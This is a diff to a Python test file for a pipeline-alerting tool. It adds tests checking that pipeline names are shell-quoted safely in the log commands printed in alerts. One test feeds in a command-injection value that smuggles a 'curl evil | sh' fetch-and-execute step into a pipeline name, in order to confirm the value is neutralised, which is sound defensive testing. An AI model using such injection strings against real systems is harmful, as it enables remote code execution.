@@ -2,13 +2,14 @@
 
 from __future__ import annotations
 
+import shlex
 from pathlib import Path
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from adapters.model import Health, Severity, State
+from adapters.model import Health, Severity, State, pipeline_key, run_key
 from engine.config.model import PipelineRule
 from engine.notify import message
 from engine.notify.channels import fit
@@ -122,3 +123,22 @@ def test_due_times_of_one_kind_are_told_together() -> None:
     )
     one = message.with_lines(body, "deadline broken: due 06:00", "").split("\n")[2]
     assert one == "Owed: deadline broken: due 06:00"
+
+
+@given(st.text(st.characters(exclude_categories=("Cs", "Cc")), min_size=1))
+def test_a_key_in_a_command_is_one_word_whatever_it_holds(native: str) -> None:
+    key = pipeline_key("a", native)
+    assert shlex.split(f"watchfloor logs {message.quoted(key)}") == ["watchfloor", "logs", key]
+
+
+def test_a_failed_run_tells_no_shell_to_run_a_pipelines_name(tmp_path: Path) -> None:
+    name = "x';curl${IFS}evil|sh;'"
+    floor = Floor(tmp_path)
+    try:
+        floor.list(name)
+        floor.poll(floor.run(State.FAILED, pipeline=name))
+        body = floor.one("SELECT body FROM alert")
+        command = body.partition("log: ")[2].splitlines()[0].partition(" · ")[0]
+        assert shlex.split(command) == ["watchfloor", "logs", run_key(pipeline_key("flow", name), "r1")]
+    finally:
+        floor.close()
